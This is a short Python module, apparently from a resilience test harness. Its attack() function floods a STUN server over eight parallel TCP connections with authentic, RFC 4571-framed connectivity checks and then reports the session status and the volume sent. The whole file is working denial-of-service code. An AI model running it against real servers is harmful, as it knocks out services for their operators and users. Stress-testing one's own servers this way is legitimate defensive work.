"""Checks without end over TCP, faster than anybody can answer them."""

import socket
import struct
import threading
import time

import stun

CONNECTIONS = 8


def attack(server):
    session = stun.Session(server)
    # Framed by RFC 4571. They are all alike: authentic, and each costs an answer.
    frames = b"".join(struct.pack("!H", len(check)) + check for check in (session.check() for _ in range(200)))
    end = time.monotonic() + server.seconds
    written = [0] * CONNECTIONS

    def flood(at):
        while time.monotonic() < end:
            try:
                with socket.create_connection((server.host, server.port), timeout=1) as stream:
                    while time.monotonic() < end:
                        try:
                            written[at] += stream.send(frames)
                        except TimeoutError:  # it is not read, as it should be
                            pass
            except OSError:
                time.sleep(0.05)

    threads = [threading.Thread(target=flood, args=(at,)) for at in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"session": session.status, "megabytes": round(sum(written) / 1e6)}
